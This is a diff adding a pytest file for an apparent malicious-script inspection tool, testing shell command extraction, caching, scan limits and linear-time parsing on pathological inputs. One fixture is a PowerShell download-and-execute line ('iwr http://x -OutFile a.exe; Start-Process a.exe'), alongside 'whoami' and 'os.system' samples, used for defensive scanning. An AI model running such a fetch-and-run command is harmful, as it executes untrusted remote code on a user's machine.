@@ -1,0 +1,94 @@
+"""The package entry points: extract_commands over any shell, commands_of once per payload, and
+extraction that stays linear on hostile input."""
+
+from __future__ import annotations
+
+import hashlib
+import time
+from collections.abc import Callable
+
+import pytest
+
+from inspector.commands import Shell, commands_of, extract_commands, shell_of
+from inspector.model import Artifact, ArtifactType
+from inspector.stage import Payload, ScanContext, ScanLimits
+
+
+def payload(text: str, type_: ArtifactType) -> Payload:
+    data = text.encode()
+    artifact = Artifact(sha256=hashlib.sha256(data).hexdigest(), size=len(data), type=type_, origin="test", depth=0)
+    return Payload(artifact=artifact, data=data, text=text)
+
+
+def test_commands_of_a_script_payload_are_extracted_once_and_shared() -> None:
+    script = payload("iwr http://x -OutFile a.exe; Start-Process a.exe", ArtifactType.POWERSHELL)
+    ctx = ScanContext(limits=ScanLimits())
+    first = commands_of(script, ctx)
+    assert [c.program for c in first] == ["invoke-webrequest", "start-process"]
+    assert commands_of(script, ctx) is first
+
+
+def test_only_shell_scripts_have_commands() -> None:
+    assert shell_of(payload("x", ArtifactType.SHELL)) is Shell.SHELL
+    assert shell_of(payload("x", ArtifactType.CMD)) is Shell.CMD
+    assert commands_of(payload("import os; os.system('id')", ArtifactType.PYTHON), ScanContext(limits=ScanLimits())) == []
+
+
+def test_an_expired_scan_extracts_nothing() -> None:
+    ctx = ScanContext(limits=ScanLimits(), started=time.monotonic() - 10 * ScanLimits().deadline_s)
+    assert commands_of(payload("whoami", ArtifactType.CMD), ctx) == []
+
+
+@pytest.mark.parametrize("shell", list(Shell))
+def test_max_commands_bounds_the_result(shell: Shell) -> None:
+    assert len(extract_commands("a | " * 10_000 + "a", shell, max_commands=50)) == 50
+
+
+@pytest.mark.parametrize("shell", list(Shell))
+def test_a_passed_deadline_stops_the_extraction(shell: Shell) -> None:
+    assert extract_commands("whoami\n" * 100_000, shell, deadline=time.monotonic() - 1) == []
+
+
+def test_ten_megabytes_are_read_only_as_far_as_the_parse_limit() -> None:
+    big = "Write-Host 'x'\n" * 700_000
+    found = extract_commands(big, Shell.POWERSHELL, max_commands=10**7, max_parse_chars=15 * 1000)
+    assert len(found) == 1000
+
+
+def growth(build: Callable[[int], str], shell: Shell, small: int) -> float:
+    """Time of 10x the input over time of the input, measured in this run (no absolute bound).
+
+    Each time is the best of three averages over repeats adding up to at least 50 ms, so that
+    a millisecond of scheduling noise on the small input does not read as growth."""
+    def per_run(n: int) -> float:
+        text = build(n)
+        averages = []
+        for _ in range(3):
+            runs = 0
+            started = time.perf_counter()
+            while True:
+                extract_commands(text, shell, max_commands=10**7, max_parse_chars=10**8)
+                runs += 1
+                elapsed = time.perf_counter() - started
+                if elapsed >= 0.05:
+                    break
+            averages.append(elapsed / runs)
+        return min(averages)
+    return per_run(small * 10) / max(per_run(small), 1e-6)
+
+
+HOSTILE: dict[str, Callable[[int], str]] = {
+    "pipes": lambda n: "a | " * n + "a",
+    "nesting": lambda n: "(" * n + "a" + ")" * n,
+    "substitutions": lambda n: "$(" * n + "a" + ")" * n,
+    "script blocks": lambda n: "& {" * n + "a" + "}" * n,
+    # (long enough that the small input is past the processor caches' sizes, where time jumps)
+    "one long line": lambda n: "x" * (n * 500),
+    "nested shells": lambda n: "cmd /c " * n + "whoami",
+}
+
+
+@pytest.mark.parametrize("shell", list(Shell))
+@pytest.mark.parametrize("shape", list(HOSTILE))
+def test_hostile_inputs_grow_linearly(shell: Shell, shape: str) -> None:
+    assert growth(HOSTILE[shape], shell, small=1000) < 30
